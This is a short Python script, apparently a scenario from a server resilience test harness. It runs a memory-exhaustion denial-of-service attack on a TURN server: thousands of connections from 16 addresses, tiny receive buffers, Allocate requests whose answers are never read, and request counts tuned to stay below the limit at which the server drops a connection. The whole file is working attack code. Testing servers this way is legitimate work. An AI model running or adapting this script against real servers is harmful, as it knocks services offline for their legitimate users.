"""Memory by strangers: bare Allocate requests of 20 bytes whose answers are never read, on 250
connections from each of 16 addresses, for as long as the server takes more."""
import socket
import time

import attack
import turn

ADDRESSES = 16
EACH = 250
SMALL = 2304
# Fewer than the answers for which the server gives a connection up.
REQUESTS = 4000
AT_ONCE = 200


def connection(place):
    stream = socket.socket()
    stream.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, SMALL)
    stream.bind((f"{turn.ATTACKERS}{3 + place // EACH}", 0))
    stream.settimeout(0.5)
    stream.connect((turn.SERVER, turn.PORT))
    stream.setblocking(False)
    return stream


def main():
    attack.allow_many_descriptors()
    one = turn.message(turn.ALLOCATE)
    connections, sent, refused, closed = {}, 0, 0, 0
    for place in range(ADDRESSES * EACH):
        try:
            connections[connection(place)] = 0
        except OSError:
            refused += 1
        if not attack.goes_on():
            break
    attack.begun()
    while attack.goes_on():
        for stream, asked in list(connections.items()):
            count = min(AT_ONCE, REQUESTS - asked)
            if count <= 0:
                continue
            try:
                # A whole number of requests, as a rule; what was cut is the front of the next.
                length = stream.send(one * count)
                connections[stream] = asked + length // len(one)
                sent += length
            except BlockingIOError:
                pass
            except OSError:
                closed += 1
                stream.close()
                del connections[stream]
            if not attack.goes_on():
                break
        time.sleep(0.01)
    attack.report(
        attempts=ADDRESSES * EACH, held=len(connections), refused=refused, closed=closed, megabytes_sent=round(sent / 1e6, 1)
    )


main()
